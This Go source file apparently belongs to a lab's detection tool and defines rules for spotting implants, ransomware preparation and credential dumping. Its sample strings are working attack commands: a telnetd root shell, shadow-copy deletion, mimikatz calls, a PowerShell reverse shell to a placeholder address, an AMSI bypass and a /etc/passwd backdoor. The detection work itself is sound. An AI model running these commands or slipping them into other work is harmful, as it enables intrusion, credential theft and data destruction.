// Programs that intruders run on hosts which they took over: bots, tools, and what prepares ransomware.

package content

import (
	"slices"

	"ftplab/lab/analysis/internal/pattern"
)

const (
	atBots    = "MITRE ATT&CK, T1071 (IRC bots) and T1498 (network denial of service)"
	atImages  = "MITRE ATT&CK, T1542.001 (system firmware)"
	atDumps   = "MITRE ATT&CK, T1003 (credential dumping)"
	atRecover = "MITRE ATT&CK, T1490 (inhibit system recovery) and T1562.001 (disable tools)"

	// ordered is the beginning of a line with a command, before the name of the program.
	ordered = `^[ \t@]*((cmd(\.exe)? +/c|start( +/\w+)*|call|&) +)?["']?`
	// openShell is a command that opens a shell for everybody who connects.
	openShell = `(\btelnetd\b[^\n]{0,60}-l *(/bin/)?(ba|a)?sh\b|\b(nc|ncat|netcat|busybox nc)\b[^\n]{0,60}-l[^\n]{0,40}-e *(/bin/)?(ba|a)?sh\b|\bsocat\b[^\n]{0,60}-listen:[^\n]{0,60}exec:["']?(/bin/)?(ba)?sh\b)`
	// moreGuests is a command that removes the rules of a firewall, or fetches a program.
	moreGuests = `(\biptables +(-t +\w+ +)?(-f|--flush)\b|\biptables[^\n]*-i input[^\n]*-j accept|` + pipedToShell + `)`
)

// rootAccounts matches accounts with the number of root and a password in the same file. Systems give root, its twin of BSD
// and the users of devices such a number.
var (
	rootAccounts = pattern.New(`(?m)^([\w.-]+):\$[^:\s]+:0:\d+:[^:\n]*:/[^:\n]*:`)
	ownRoots     = map[string]bool{"root": true, "toor": true, "admin": true}
)

func otherRoot(t *passage) bool {
	return slices.ContainsFunc(rootAccounts.FindAllSubmatch(t.text, -1), func(m [][]byte) bool { return !ownRoots[string(m[1])] })
}

// implants are such programs and scripts.
var implants = []plant{
	{what: "a text that asks for money in coins, or says where to write in secret", kind: Demand, source: "MITRE ATT&CK, T1486 (data encrypted for impact) and T1657 (financial theft)",
		example: "Send 0.05 bitcoin to 1Boat.\n",
		parts: []part{like(`bitcoin|\b(btc|monero|xmr|ethereum|usdt|litecoin|ransom|qtox)\b|\d eth\b|итко[ий]н|比特币|\bbc1[a-z0-9]{20,}|\.onion\b|onionmail|@(proton|tuta|cock)|\bt\.me/|\btelegram *:? *@`,
			"bitcoin", "btc", "monero", "xmr", "ethereum", "usdt", "litecoin", "ransom", "qtox", " eth", "итко", "比特币", "bc1", ".onion", "onionmail", "@proton", "@tuta", "@cock", "t.me/", "telegram")}},

	{what: "a program of Windows in base64, perhaps as a certificate", kind: Malicious, fetched: true, source: "MITRE ATT&CK, T1027.013 (encoded file) and T1140 (deobfuscate files)",
		example: "-----BEGIN CERTIFICATE-----\nTVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAA\n",
		parts:   []part{like(`^\s*(-----begin [a-z0-9 ]+-----\s*)?tv(qqaam|qaaam|paaai|pqaai|roaaa|r6aaa|pbuqai)a[a-z0-9+/\s]{20}`, "tvqqaam", "tvqaaam", "tvpaaai", "tvpqaai", "tvroaaa", "tvr6aaa", "tvpbuqai")}},
	{what: "a script that makes a router of MikroTik a proxy, and lets somebody else steer it", kind: Malicious, fetched: true, source: "MITRE ATT&CK, T1090.002 (external proxy) and T1136.001 (local account)",
		example: "/ip socks set enabled=yes port=4145\n/user add name=sys32 group=full password=x\n",
		parts: []part{like(`/ip[ /]socks\s+(set [^\n]*)?enabled=(yes|true)`, "socks"),
			like(`/user\s+add [^\n]*group=full|/system[ /]scheduler\s+add [^\n]*(/tool[ /]fetch|\bfetch )`, "group=full", "fetch")}},
	{what: "a bot that takes orders from a chat, to flood other hosts", kind: Malicious, fetched: true, where: anywhere, source: atBots,
		example: "#!/usr/bin/perl\nuse IO::Socket;\nprint $s \"NICK bot\\nUSER x\\n\";\nif($m=~/^!udpflood/){}\n",
		parts: []part{like(`\b(udp|tcp|syn|http|ack|icmp|std)_?flood(er)?\b|\btsunami <target>|\bpan <target> <port>|[!@.](ddos|portscan|nmap)\b`, "flood", "<target>", "ddos", "portscan", "nmap"),
			like(`\b(nick|privmsg)[ "']`, "nick", "privmsg"), like(`io::socket|socket\.socket|\bimport socket|fsockopen|net\.createconnection|tcpsocket|\bconnect\b`, "socket", "sockopen", "createconnection", "connect")}},

	{what: "a start script that lets everybody in, and more intruders with it", kind: Malicious, fetched: true, where: anywhere, source: atImages,
		example: "/usr/sbin/telnetd -p 2323 -l /bin/sh &\niptables -F INPUT\n",
		parts: []part{marked("telnetd", "nc ", "netcat", "ncat", "socat"), // in one script: an image has several
			like(openShell+`[\s\S]{0,400}`+moreGuests+`|`+moreGuests+`[\s\S]{0,400}`+openShell, "iptables", "wget", "curl", "base64")}},
	{what: "a start script that lets everybody in", kind: LikelyMalicious, where: anywhere, source: atImages,
		example: "#!/bin/sh\ntelnetd -p 2323 -l /bin/sh &\n",
		parts:   []part{like(openShell, "telnetd", "nc", "netcat", "socat")}},

	{what: "a script that removes the copies of a system and what protects it", kind: Malicious, fetched: true, where: anywhere, source: atRecover,
		example: "vssadmin delete shadows /all /quiet\r\nbcdedit /set {default} recoveryenabled no\r\n",
		parts: []part{like(`\bvssadmin[^\n]* (delete shadows[^\n]*/(all|quiet)|resize shadowstorage[^\n]*/maxsize=\d{3}mb)|\bshadowcopy +delete\b|win32_shadowcopy[^\n]*(\.delete\(|remove-)`, "shadow"),
			like(`\brecoveryenabled +no\b|\bignoreallfailures\b|\bwbadmin[^\n]* delete\b|-disablerealtimemonitoring +(\$true|1)\b|\bdisableantispyware\b|\bwevtutil(\.exe)? +cl\b|\bsc(\.exe)? +(stop|config|delete) +windefend\b|\ballprofiles +state +off\b|\b(net +stop|taskkill[^\n]*/im)[^\n]*(sql|veeam|backup|vss)`, "recoveryenabled", "ignoreallfailures", "wbadmin", "-disablerealtime", "disableantispyware", "wevtutil", "windefend", "allprofiles", "net", "taskkill")}},
	{what: "a script that ends virtual machines and removes their copies", kind: Malicious, fetched: true, where: anywhere, source: atRecover,
		example: "esxcli vm process kill --type=force --world-id=1\nvim-cmd vmsvc/snapshot.removeall 1\n",
		parts:   []part{like(`esxcli[^\n]* vm process kill`, "esxcli"), marked("snapshot.removeall", "vmsvc/power.off")}},

	{what: "a script that takes the passwords of Windows out of its memory", kind: Malicious, fetched: true, source: atDumps,
		example: "m64.exe privilege::debug sekurlsa::logonpasswords exit > o.txt\r\n",
		parts: []part{like(`(?m)`+ordered+`(\S+\.exe|invoke-mimikatz|mimikatz)\b[^\n]*(privilege::debug|sekurlsa::|lsadump::)|`+ordered+`(\S*\\)?rundll32\b[^\n]*comsvcs(\.dll)?[ ,]+(minidump|#?\+?24)\b|`+ordered+`procdump(64)?(\.exe)?\b[^\n]*\blsass|`+ordered+`reg(\.exe)? +save +["']?hk(lm|ey_local_machine)\\sam\b|`+ordered+`ntdsutil\b[^\n]*\bifm\b`,
			"::", "comsvcs", "procdump", "hklm", "hkey_local", "ntdsutil")}},
	{what: "a program that takes the passwords of Windows out of its memory", kind: LikelyMalicious, fetched: true, where: inBinary, source: atDumps,
		example: "\x7f\x00mimikatz 2.2.0 (x64)\x00sekurlsa::logonpasswords\x00",
		parts:   []part{marked("sekurlsa::logonpasswords", "lsadump::", "gentilkiwi", "kuhl_m_sekurlsa")}},
	{what: "a script of PowerShell that opens a shell for somebody far away", kind: Malicious, fetched: true, source: "MITRE ATT&CK, T1059.001 (PowerShell)",
		example: "$c=New-Object System.Net.Sockets.TCPClient('203.0.113.9',4444);$s=$c.GetStream();while(1){iex $d}",
		parts:   []part{marked("sockets.tcpclient"), marked("getstream"), like(`\b(iex|invoke-expression)\b`, "iex", "invoke-expression")}},
	{what: "a script of PowerShell that switches the scan of scripts off", kind: Malicious, fetched: true, source: "MITRE ATT&CK, T1562.001 (disable tools)",
		example: "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
		parts:   []part{like(`amsiutils|amsiinitfailed|amsiscanbuffer`, "amsi"), marked("getfield(", "virtualprotect", "getprocaddress")}},
	{what: "a script that makes another administrator", kind: Malicious, fetched: true, where: anywhere, source: "MITRE ATT&CK, T1136.001 (local account)",
		example: "echo 'r00t::0:0::/root:/bin/sh' >> /etc/passwd\n",
		parts:   []part{like(`\b(echo|printf)\b[^\n]*:0:0:[^\n]*>> *\S*/etc/passwd|\buser(add|mod)\b[^\n]*( -o[^\n]* -u *0| -u *0[^\n]* -o| -ou *0)\b`, "/etc/passwd", "useradd", "usermod")}},
	{what: "the accounts of a server, one of which is another administrator with a password of its own", kind: Malicious, source: "MITRE ATT&CK, T1136 (create account)",
		example: "ada:$1$x$y:1000:1000::/home/ada:/bin/sh\nhelp:$1$x$y:0:0::/:/bin/sh\n",
		parts:   []part{{[]string{":0:"}, otherRoot}}},
	{what: "a bot that takes orders from a chat", kind: LikelyMalicious, fetched: true, source: atBots,
		example: "import requests, subprocess\nu=requests.get('https://api.telegram.org/bot'+T+'/getUpdates').json()\nsubprocess.check_output(c, shell=True)\n",
		parts:   []part{marked("api.telegram.org/bot", "telebot.", "discord.client", "discord.ext", "commands.bot("), like(`\bos\.popen\s*\(|\bos\.system\s*\(|shell\s*=\s*true`, "popen", "system", "shell")}},
	{what: "a script that removes the logs of Windows, and runs programs elsewhere", kind: LikelyMalicious, fetched: true, source: "MITRE ATT&CK, T1070.001 (clear event logs) and T1569.002 (service execution)",
		example: "PsExec \\\\dc01 -s cmd\r\nwevtutil cl Security\r\n",
		parts:   []part{like(`\bwevtutil(\.exe)? +(cl|clear-log)\b[^\n]*security|\bclear-eventlog\b[^\n]*security`, "wevtutil", "clear-eventlog"), like(`\bpsexec(64)?(\.exe)? +(\\\\|@)|\bwmic\b[^\n]*/node:|\bsekurlsa\b`, "psexec", "wmic", "sekurlsa")}},
}
